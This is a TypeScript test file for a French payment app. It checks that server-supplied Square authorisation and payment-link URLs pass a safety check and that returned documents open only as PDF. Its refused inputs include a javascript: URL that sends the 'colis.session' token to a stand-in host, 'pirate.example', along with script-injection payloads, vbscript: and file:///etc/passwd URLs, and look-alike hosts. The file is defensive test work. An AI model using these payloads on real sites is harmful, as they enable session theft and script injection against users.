import { afterEach, describe, expect, it, vi } from 'vitest';
import { checkServerUrl, UNSAFE_URL_MESSAGES, type UrlContext } from '../../src/domain/safeUrl';
import { asPdf, openPendingTab } from '../../src/components/files';

const app: UrlContext = { appOrigin: 'http://localhost:5781', demo: false };
const demo: UrlContext = { ...app, demo: true };

describe('server URLs the app navigates to: one check', () => {
  it.each([
    'https://connect.squareup.com/oauth2/authorize?client_id=sq0idp-x&scope=PAYMENTS_WRITE&state=abc',
    'https://connect.squareupsandbox.com/oauth2/authorize?client_id=sandbox-sq0idb-x&state=abc',
  ])('the provider authorisation on Square in https is accepted: %s', (url) => {
    expect(checkServerUrl(url, 'provider-authorization', app)).toEqual({ ok: true, url });
  });

  it.each([
    ['javascript:', 'javascript:fetch("https://pirate.example/?t="+localStorage.getItem("colis.session"))'],
    ['javascript: with spaces and case', '  JaVaScRiPt:alert(1)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['plain http', 'http://connect.squareup.com/oauth2/authorize'],
    ['another host', 'https://pirate.example/oauth2/authorize'],
    ['a look-alike host', 'https://connect.squareup.com.pirate.example/oauth2/authorize'],
    ['credentials before the host', 'https://connect.squareup.com@pirate.example/oauth2/authorize'],
    ['a relative path', '/oauth2/authorize'],
    ['an empty value', ''],
    ['no value', null],
  ])('the provider authorisation is refused with a French message: %s', (_case, url) => {
    expect(checkServerUrl(url, 'provider-authorization', app)).toEqual({ ok: false, message: UNSAFE_URL_MESSAGES['provider-authorization'] });
  });

  it('payment links: any https host (the provider chooses its checkout domain), never another scheme', () => {
    expect(checkServerUrl('https://square.link/u/AbCd1234', 'payment-link', app)).toEqual({ ok: true, url: 'https://square.link/u/AbCd1234' });
    expect(checkServerUrl('https://sandbox.square.link/u/x', 'payment-link', app).ok).toBe(true);
    for (const bad of ['javascript:alert(1)', 'http://square.link/u/x', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'https://user:pw@square.link/u/x']) {
      expect(checkServerUrl(bad, 'payment-link', app)).toEqual({ ok: false, message: UNSAFE_URL_MESSAGES['payment-link'] });
    }
  });

  it("in demo mode, the demo backend's local pages on the app's own origin, and only those", () => {
    const consent = 'http://localhost:5781/#/demo/square-authorize?state=0123456789abcdef0123456789abcdef';
    const checkout = 'http://localhost:5781/#/demo/checkout/DEMO-CHK-000001';
    expect(checkServerUrl(consent, 'provider-authorization', demo)).toEqual({ ok: true, url: consent });
    expect(checkServerUrl(checkout, 'payment-link', demo)).toEqual({ ok: true, url: checkout });
    // Not with a real server, not on another origin, not for the other kind, not another local page.
    expect(checkServerUrl(consent, 'provider-authorization', app).ok).toBe(false);
    expect(checkServerUrl('http://pirate.example/#/demo/square-authorize?state=x', 'provider-authorization', demo).ok).toBe(false);
    expect(checkServerUrl(checkout, 'provider-authorization', demo).ok).toBe(false);
    expect(checkServerUrl('http://localhost:5781/#/colis', 'payment-link', demo).ok).toBe(false);
  });

  it("with the demo API server, its own two stand-in pages on the API's origin, and only those", () => {
    const server: UrlContext = { ...app, apiOrigin: 'http://127.0.0.1:8000' };
    const consent = 'http://127.0.0.1:8000/demo/square-authorize?state=0123456789abcdef';
    const checkout = 'http://127.0.0.1:8000/demo/checkout/DEMO-CHK-000001?retour=http%3A%2F%2Flocalhost%3A5781';
    expect(checkServerUrl(consent, 'provider-authorization', server)).toEqual({ ok: true, url: consent });
    expect(checkServerUrl(checkout, 'payment-link', server)).toEqual({ ok: true, url: checkout });
    // Another origin, another page of the API, the other kind, the app's own origin: refused.
    expect(checkServerUrl('http://127.0.0.1:8001/demo/checkout/X', 'payment-link', server).ok).toBe(false);
    expect(checkServerUrl('http://127.0.0.1:8000/api/accounts/auth/user/', 'payment-link', server).ok).toBe(false);
    expect(checkServerUrl(checkout, 'provider-authorization', server).ok).toBe(false);
    expect(checkServerUrl('http://localhost:5781/demo/checkout/X', 'payment-link', server).ok).toBe(false);
    expect(checkServerUrl('http://127.0.0.1:8000/demo/square-authorize?state=x', 'provider-authorization', app).ok).toBe(false);
  });

  it('the messages are French and say nothing was opened', () => {
    expect(UNSAFE_URL_MESSAGES['provider-authorization']).toBe(
      "Adresse d'autorisation refusée : le serveur a envoyé une adresse qui ne mène pas à Square en https. Aucune page n'a été ouverte.",
    );
    expect(UNSAFE_URL_MESSAGES['payment-link']).toBe("Lien de paiement refusé : le serveur a envoyé une adresse qui n'est pas en https. Le lien n'est ni affiché ni ouvert.");
  });
});

describe('server documents open as PDF, whatever type the answer claimed', () => {
  const { createObjectURL, revokeObjectURL } = URL;
  afterEach(() => {
    URL.createObjectURL = createObjectURL;
    URL.revokeObjectURL = revokeObjectURL;
    vi.restoreAllMocks();
  });

  it('an HTML answer is opened as application/pdf, never as a page of the app', () => {
    const created: Blob[] = [];
    URL.createObjectURL = vi.fn((blob: Blob) => {
      created.push(blob);
      return 'blob:http://localhost/1';
    });
    URL.revokeObjectURL = vi.fn();
    const tab = { closed: false, opener: window, location: { href: '' } } as unknown as Window;
    vi.spyOn(window, 'open').mockReturnValue(tab);
    openPendingTab().show(new Blob(['<script>alert(1)</script>'], { type: 'text/html' }));
    expect(tab.location.href).toBe('blob:http://localhost/1');
    expect(created[0].type).toBe('application/pdf');
    const pdf = new Blob(['%PDF-1.7'], { type: 'application/pdf' });
    expect(asPdf(pdf)).toBe(pdf);
  });
});
